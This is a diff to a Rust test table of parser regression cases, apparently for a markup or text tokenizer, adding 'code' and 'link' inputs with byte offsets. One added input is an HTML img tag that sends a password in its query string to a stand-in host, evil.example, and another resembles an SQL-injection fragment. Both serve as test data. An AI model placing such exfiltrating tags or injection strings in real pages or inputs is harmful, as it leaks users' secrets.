@@ -195,6 +195,10 @@ const BROKEN_ONCE: &[(&str, &str, &[u8])] = &[
         "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n----$翱$ and\n-----END PRIVATE KEY-----",
         &[101],
     ),
+    // A mark that begins within a word was found there, and not waited for.
+    ("code", "A reunion select a, b from t--", &[9]),
+    // A tag behind many signs that open none was let go.
+    ("link", "<<<<<<<<<6<\0 <img src=\"https://evil.example/p?q=the+user+password+is+hunter2\"> and", &[24]),
     // So was a form of address in capitals.
     ("title", "DEAR MRS. BERG, come", &[9]),
     ("title", "職Prof. Édouard Roche", &[8]),
